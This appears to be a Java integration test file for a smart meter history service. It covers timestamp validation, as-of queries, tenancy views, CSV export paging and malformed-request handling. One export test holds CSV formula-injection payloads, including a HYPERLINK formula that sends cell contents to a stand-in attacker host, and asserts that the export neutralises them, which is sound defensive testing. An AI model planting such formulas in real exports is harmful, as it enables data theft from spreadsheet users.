package uk.smartmeter.restricted.bootstrap.api;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.Test;
import uk.smartmeter.restricted.domain.device.UserRole;
import uk.smartmeter.restricted.domain.history.HashChain;

/** The history's times (one precision, one range, one timeline) and its CSV export (safe, paged, verifiable). */
class HistoryTimesAndExportTest extends RunningService {

    private static final String DEVICES = "/api/v1/devices";

    private JsonNode entries(String device, String token, int atLeast) {
        Awaitility.await().atMost(Duration.ofSeconds(20)).pollInterval(Duration.ofMillis(50)).until(() ->
                sql.queryForObject("SELECT COUNT(*) FROM history_entry WHERE device_id = ?", Integer.class, device)
                        >= atLeast);
        HttpApi.Response page = api.get("/api/v1/history/devices/" + device, token);
        assertThat(page.status()).as(page.toString()).isEqualTo(200);
        return page.json().get("entries");
    }

    private static List<String> types(JsonNode entries) {
        List<String> types = new ArrayList<>();
        entries.forEach(entry -> types.add(entry.get("eventType").asText()));
        return types;
    }

    @Test
    void bodyTimesOutsideTheYears1900To9999AreA422NamingTheFieldAndNothingIsStored() {
        String dcc = api.token("DCC-DSP", UserRole.DCC);
        String device = "00-DB-12-34-56-78-9C-A0";
        for (String time : List.of("1899-12-31T23:59:59Z", "0000-01-01T00:00:00Z", "-999999999-01-01T00:00:00Z",
                "+10000-01-01T00:00:00Z")) {
            HttpApi.Response refused = api.send("POST", DEVICES, dcc, HttpApi.enrolment(device, "SUPPLIER-TA")
                    .replace("\"smiStatus\"", "\"effectiveAt\":\"" + time + "\",\"smiStatus\""));
            assertThat(refused.status()).as(time + ": " + refused).isEqualTo(422);
            assertThat(refused.json().get("errors").get(0).get("field").asText()).isEqualTo("effectiveAt");
            assertThat(eventsOf(device)).as("nothing stored for " + time).isZero();
        }
        assertThat(api.send("POST", DEVICES, dcc, HttpApi.commissioned(device, "00-DB-12-34-56-78-9C-A2", "NORTH",
                "SUPPLIER-TA").replace("\"smiStatus\"", "\"effectiveAt\":\"1900-01-01T00:00:00Z\",\"smiStatus\""))
                .status()).as("the first second of 1900 is in range").isEqualTo(201);
        HttpApi.Response tenancy = api.send("POST", DEVICES + "/" + device + "/tenancy-changes", dcc,
                "{\"effectiveAt\":\"0000-01-01T00:00:00Z\"}");
        assertThat(tenancy.status()).isEqualTo(422);
        assertThat(tenancy.json().get("errors").get(0).get("field").asText()).isEqualTo("effectiveAt");
        HttpApi.Response attested = api.send("PUT", DEVICES + "/" + device + "/restriction",
                api.token("SUPPLIER-TA", UserRole.IS), "{\"attestation\":{\"reference\":\"RS-1\","
                        + "\"stepsExhaustedOn\":\"0000-01-01\"}}");
        assertThat(attested.status()).isEqualTo(422);
        assertThat(attested.json().get("errors").get(0).get("field").asText())
                .isEqualTo("attestation.stepsExhaustedOn");
        assertThat(eventsOf(device)).as("only the enrolment").isEqualTo(1);
        assertThat(api.get("/api/v1/history/verification", api.token("OFGEM", UserRole.REGULATOR)).json()
                .get("intact").asBoolean()).isTrue();
    }

    @Test
    void anAsOfAtExactlyTheMicrosecondTheHistoryShowsFindsThatEvent() {
        String dcc = api.token("DCC-DSP", UserRole.DCC);
        String device = "00-DB-12-34-56-78-9C-B0";
        assertThat(api.send("POST", DEVICES, dcc, HttpApi.commissioned(device, "00-DB-12-34-56-78-9C-B2", "NORTH",
                "SUPPLIER-TB")).status()).isEqualTo(201);
        assertThat(api.send("PUT", DEVICES + "/" + device + "/restriction", api.token("SUPPLIER-TB", UserRole.IS),
                HttpApi.attestation()).status()).isEqualTo(200);
        String regulator = api.token("OFGEM", UserRole.REGULATOR);
        JsonNode applied = entries(device, regulator, 2).get(1);
        assertThat(applied.get("eventType").asText()).isEqualTo("RestrictionApplied");
        String shown = applied.get("recordedAt").asText();
        JsonNode asOf = api.get("/api/v1/history/devices/" + device + "/as-of?effective=" + shown + "&recorded="
                + shown, regulator).json();
        assertThat(asOf.get("restricted").asBoolean()).as("as of " + shown).isTrue();
        assertThat(asOf.get("restsOnEventId").asText()).isEqualTo(applied.get("eventId").asText());
        assertThat(asOf.get("restsOnRecordedAt").asText()).isEqualTo(shown);
    }

    @Test
    void aBackDatedChangeOfTenancyBeforeTheFlagLeavesTheSuppliersOwnRestrictionInItsView() {
        String dcc = api.token("DCC-DSP", UserRole.DCC);
        String supplier = api.token("SUPPLIER-TC", UserRole.IS);
        String device = "00-DB-12-34-56-78-9C-C0";
        assertThat(api.send("POST", DEVICES, dcc, HttpApi.commissioned(device, "00-DB-12-34-56-78-9C-C2", "NORTH",
                "SUPPLIER-TC").replace("\"smiStatus\"", "\"effectiveAt\":\"2026-01-01T00:00:00Z\",\"smiStatus\""))
                .status()).isEqualTo(201);
        assertThat(api.send("PUT", DEVICES + "/" + device + "/restriction", supplier, HttpApi.attestation()).status())
                .isEqualTo(200);
        JsonNode cot = api.send("POST", DEVICES + "/" + device + "/tenancy-changes", dcc,
                "{\"effectiveAt\":\"2026-01-03T00:00:00Z\"}").json();
        assertThat(cot.get("device").get("restricted").asBoolean())
                .as("a tenancy that began before the flag leaves it: it was the new tenant's choice").isTrue();

        JsonNode view = entries(device, supplier, 3);
        assertThat(types(view)).as("the current tenancy on the effective timeline: from 3 January on")
                .containsExactly("RestrictionApplied", "TenancyChanged");
        assertThat(types(entries(device, dcc, 3))).containsExactly("DeviceEnrolled", "RestrictionApplied",
                "TenancyChanged");
    }

    @Test
    void aFilteredQueryOnAnExistingMeterWithNoMatchesIsAnEmptyPageAndNoRefusal() {
        String dcc = api.token("DCC-DSP", UserRole.DCC);
        String supplier = api.token("SUPPLIER-TD", UserRole.IS);
        String device = "00-DB-12-34-56-78-9C-D0";
        assertThat(api.send("POST", DEVICES, dcc, HttpApi.commissioned(device, "00-DB-12-34-56-78-9C-D2", "NORTH",
                "SUPPLIER-TD")).status()).isEqualTo(201);
        entries(device, dcc, 1);
        int refusals = refusalsRecorded("DEVICE_NOT_ENROLLED");
        for (String token : List.of(dcc, supplier, api.token("OFGEM", UserRole.REGULATOR))) {
            HttpApi.Response none = api.get("/api/v1/history/devices/" + device + "?kind=RestrictionCleared", token);
            assertThat(none.status()).as(none.toString()).isEqualTo(200);
            assertThat(none.json().get("entries")).isEmpty();
        }
        assertThat(refusalsRecorded("DEVICE_NOT_ENROLLED")).isEqualTo(refusals);
    }

    @Test
    void aGateDenialNamesThePartyAndRoleThatAskedWhenTheQuestionNamesNoSender() {
        String dcc = api.token("DCC-DSP", UserRole.DCC);
        String device = "00-DB-12-34-56-78-9C-E0";
        assertThat(api.send("POST", DEVICES, dcc, HttpApi.commissioned(device, "00-DB-12-34-56-78-9C-E2", "NORTH",
                "SUPPLIER-TE")).status()).isEqualTo(201);
        assertThat(api.send("PUT", DEVICES + "/" + device + "/restriction", api.token("SUPPLIER-TE", UserRole.IS),
                HttpApi.attestation()).status()).isEqualTo(200);
        Awaitility.await().atMost(Duration.ofSeconds(10)).until(() -> "R1".equals(api.send("POST",
                "/api/v1/gate/decisions", dcc, "{\"requestId\":\"t-anon-1\",\"srv\":\"4.8.1\",\"deviceId\":\""
                        + device + "\"}").json().get("responseCode").asText()));
        JsonNode denied = entries(device, dcc, 3).get(2);
        assertThat(denied.get("eventType").asText()).isEqualTo("GateDenied");
        assertThat(denied.get("party").asText()).isEqualTo("DCC-DSP");
        assertThat(denied.get("role").asText()).isEqualTo("DCC");
    }

    @Test
    void everyCellThatASpreadsheetWouldRunIsNeutralisedAndTheExportStillVerifiesOffline() {
        List<String> users = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1)",
                "'quoted");
        assertThat(api.send("PUT", DEVICES + "/00-DB-12-34-56-78-9C-FF/restriction",
                api.tokenFor("SUPPLIER-TF", "\tcmd", UserRole.IS), HttpApi.attestation()).status())
                .as("an acting user with a control character is no valid token").isEqualTo(401);
        for (String user : users) {
            String token = api.tokenFor("SUPPLIER-TF", user, UserRole.IS);
            assertThat(api.send("PUT", DEVICES + "/00-DB-12-34-56-78-9C-FF/restriction", token,
                    HttpApi.attestation()).status()).isEqualTo(404);
        }
        String regulator = api.token("OFGEM", UserRole.REGULATOR);
        Awaitility.await().atMost(Duration.ofSeconds(20)).until(() -> sql.queryForObject(
                "SELECT COUNT(*) FROM history_entry WHERE party = 'SUPPLIER-TF'", Integer.class) >= users.size());
        List<List<String>> rows = HistoryEndToEndTest.Rfc4180.parse(api.get("/api/v1/history/export", regulator).body());
        List<String> header = rows.get(0);
        int acting = header.indexOf("acting_user");
        int globalHash = header.indexOf("global_hash");
        List<String> written = new ArrayList<>();
        String previous = HashChain.GENESIS;
        for (List<String> row : rows.subList(1, rows.size())) {
            for (String cell : row) {
                assertThat(cell).as("no cell begins with a formula character").doesNotStartWith("=")
                        .doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t");
            }
            List<String> content = new ArrayList<>();
            for (String cell : row.subList(0, header.indexOf("device_hash"))) {
                content.add(cell.isEmpty() ? null : HashChain.storedCell(cell));
            }
            previous = HashChain.next(previous, content);
            assertThat(previous).as("row %s verifies offline", row.get(0)).isEqualTo(row.get(globalHash));
            if (row.get(header.indexOf("party")).equals("SUPPLIER-TF")) {
                written.add(row.get(acting));
            }
        }
        assertThat(written).contains("'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'+1+1", "'-2+3",
                "'@SUM(1)", "''quoted");
    }

    @Test
    void theExportPagesByGlobalIndexAndRefusesABadPageWith422NamingTheField() {
        String regulator = api.token("OFGEM", UserRole.REGULATOR);
        String dcc = api.token("DCC-DSP", UserRole.DCC);
        assertThat(api.send("POST", DEVICES, dcc, HttpApi.commissioned("00-DB-12-34-56-78-9C-90",
                "00-DB-12-34-56-78-9C-92", "NORTH", "SUPPLIER-TG")).status()).isEqualTo(201);
        assertThat(api.send("POST", DEVICES, dcc, HttpApi.commissioned("00-DB-12-34-56-78-9C-91",
                "00-DB-12-34-56-78-9C-93", "NORTH", "SUPPLIER-TG")).status()).isEqualTo(201);
        Awaitility.await().atMost(Duration.ofSeconds(20)).until(() -> sql.queryForObject(
                "SELECT COUNT(*) FROM history_entry", Integer.class) >= 2);
        List<List<String>> all = HistoryEndToEndTest.Rfc4180.parse(api.get("/api/v1/history/export", regulator).body());
        List<List<String>> first = HistoryEndToEndTest.Rfc4180.parse(api.get("/api/v1/history/export?limit=1", regulator).body());
        assertThat(first).hasSize(2);
        assertThat(first.get(1)).isEqualTo(all.get(1));
        String cursor = first.get(1).get(0);
        List<List<String>> next = HistoryEndToEndTest.Rfc4180.parse(api.get("/api/v1/history/export?limit=1&after=" + cursor, regulator)
                .body());
        assertThat(next.get(1)).as("the page after the cursor").isEqualTo(all.get(2));
        for (String bad : List.of("limit=0", "limit=abc", "limit=1000001", "after=-2", "after=x",
                "after=%EF%BC%93", "after=%D9%A3", "after=%2B5", "limit=%D9%A1")) {
            HttpApi.Response refused = api.get("/api/v1/history/export?" + bad, regulator);
            assertThat(refused.status()).as(bad).isEqualTo(422);
            assertThat(refused.json().get("errors").get(0).get("field").asText()).isEqualTo(bad.split("=")[0]);
        }
    }

    @Test
    void aQueryOrTargetTheContainerCannotDecodeIsAProblemNeverSilentlyDroppedNorAnHtmlPage() throws Exception {
        String regulator = api.token("OFGEM", UserRole.REGULATOR);
        for (String target : List.of("/api/v1/history/export?after=%ZZ", "/api/v1/history/export?after=5&limit=%G1",
                "/api/v1/history/export?limit=%C3%28", "/api/v1/devices/%00", "/api/v1/devices/%ZZ",
                "/api/v1/reports/2026-11%00")) {
            String answer = raw("GET " + target + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer "
                    + regulator + "\r\nConnection: close\r\n\r\n");
            assertThat(answer).as(target).startsWith("HTTP/1.1 400").containsIgnoringCase(
                    "Content-Type: application/problem+json").contains("\"code\":\"MALFORMED_REQUEST\"")
                    .doesNotContain("<html", "Exception");
        }
    }

    private String raw(String request) throws Exception {
        try (java.net.Socket socket = new java.net.Socket("127.0.0.1", port)) {
            socket.setSoTimeout(10_000);
            socket.getOutputStream().write(request.getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
            return new String(socket.getInputStream().readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
        }
    }
}
